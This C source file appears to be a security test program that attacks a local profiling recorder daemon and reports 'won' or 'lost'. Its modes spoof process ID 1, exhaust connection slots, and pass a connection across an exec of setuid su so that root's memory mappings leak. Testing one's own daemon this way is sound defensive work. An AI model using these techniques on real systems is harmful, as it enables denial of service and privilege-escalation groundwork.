// SPDX-License-Identifier: MIT
/*
 * connections KIND: connects to the recorder at $XPUPROF_SOCKET as libraries do, and
 *
 *	name    says to be process 1
 *	silent  takes 4,200 places and says nothing, while somebody else wants one
 *	before  passes the connection on, once it is welcome, and runs su, which is root's: the
 *		recorder reports what a process maps to whoever holds the connection
 *	after   the same, but is welcome only then
 *
 * It prints "won: ..." or "lost: ...".
 */
#include <err.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack/client.h"

#define PROCESSES   70
#define CONNECTIONS 60
#define MOMENTS	    1000 /* of a millisecond */

static uint32_t version = WIRE_VERSION;

static int connect_to_recorder(void)
{
	int fd = client_dial();

	if (fd < 0)
		err(1, "connect");
	return fd;
}

/* The welcome's memory; -1: none comes. An older recorder says which version it wants. */
static int say_hello(int fd, pid_t pid, int patience_s)
{
	return client_greet(fd, (uint32_t)pid, &version, patience_s);
}

static void learn_version(void)
{
	int fd = connect_to_recorder();

	say_hello(fd, getpid(), 1);
	close(fd);
}

static void claim_another_name(void)
{
	if (say_hello(connect_to_recorder(), 1, 1) >= 0)
		puts("won: we are process 1");
	else
		puts("lost: refused");
}

static void take_places(int ready)
{
	for (int n = 0; n < CONNECTIONS; n++)
		connect_to_recorder();
	if (write(ready, "", 1) == 1)
		pause();
}

static void keep_silent(void)
{
	pid_t pids[PROCESSES];
	int ends[2];
	char byte;

	if (pipe(ends))
		err(1, "pipe");
	for (int n = 0; n < PROCESSES; n++) {
		pids[n] = fork();
		if (!pids[n])
			take_places(ends[1]);
	}
	close(ends[1]);
	for (int n = 0; n < PROCESSES && read(ends[0], &byte, 1) == 1; n++)
		;
	if (say_hello(connect_to_recorder(), getpid(), 2) >= 0)
		puts("lost: somebody else is welcome");
	else
		puts("won: nobody else can connect");
	for (int n = 0; n < PROCESSES; n++)
		kill(pids[n], SIGKILL);
	while (wait(NULL) > 0)
		;
}

static bool is_secret(pid_t pid)
{
	char path[32];
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
	maps = fopen(path, "r");
	if (maps)
		fclose(maps);
	return !maps && (errno == EACCES || errno == EPERM);
}

/* What the recorder reports of that process; NULL: nothing. */
static const struct wire_space *map_space(int memory)
{
	static struct ring ring;

	ring = client_ring(memory);
	return ring.control ? ring_space(&ring) : NULL;
}

/* Whether it is a mapping of ours, and so of the program that connected. */
static bool is_own(uint64_t address)
{
	FILE *maps = fopen("/proc/self/maps", "r");
	unsigned long start, end;
	bool found = false;

	while (!found && fscanf(maps, "%lx-%lx%*[^\n]", &start, &end) == 2)
		found = start <= address && address < end;
	fclose(maps);
	return found;
}

static bool shows_another(const struct wire_space *space)
{
	return space && space->sequence && !(space->sequence & 1) && space->count &&
	       !is_own(space->mappings[0].start);
}

static void watch_another(int fd, pid_t pid, int memory)
{
	const struct wire_space *space;

	for (int n = 0; n < MOMENTS && !is_secret(pid); n++)
		usleep(1000);
	if (!is_secret(pid)) {
		puts("lost: su is not root's here");
		return;
	}
	space = map_space(memory >= 0 ? memory : say_hello(fd, pid, 1));
	for (int n = 0; n < MOMENTS && !shows_another(space); n++)
		usleep(1000);
	if (shows_another(space))
		printf("won: root's su has code at %#llx\n",
			(unsigned long long)space->mappings[0].start);
	else
		puts("lost: nothing of root's is seen");
}

static void pass_on(bool welcome_before)
{
	pid_t pid = getpid();
	int fd = connect_to_recorder(), input[2],
	    memory = welcome_before ? say_hello(fd, pid, 1) : -1;

	if (welcome_before && memory < 0)
		errx(1, "not welcome");
	if (welcome_before)
		map_space(memory);
	if (pipe(input))
		err(1, "pipe");
	if (!fork()) {
		watch_another(fd, pid, memory);
		exit(0);
	}
	dup2(input[0], 0);
	close(input[0]);
	close(input[1]);
	execl("/bin/su", "su", "root", "-c", "true", NULL);
	err(1, "su");
}

int main(int argc, char **argv)
{
	const char *kind = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IONBF, 0);
	learn_version();
	if (!strcmp(kind, "name"))
		claim_another_name();
	else if (!strcmp(kind, "silent"))
		keep_silent();
	else if (!strcmp(kind, "before") || !strcmp(kind, "after"))
		pass_on(!strcmp(kind, "before"));
	else
		errx(2, "which kind?");
	return 0;
}
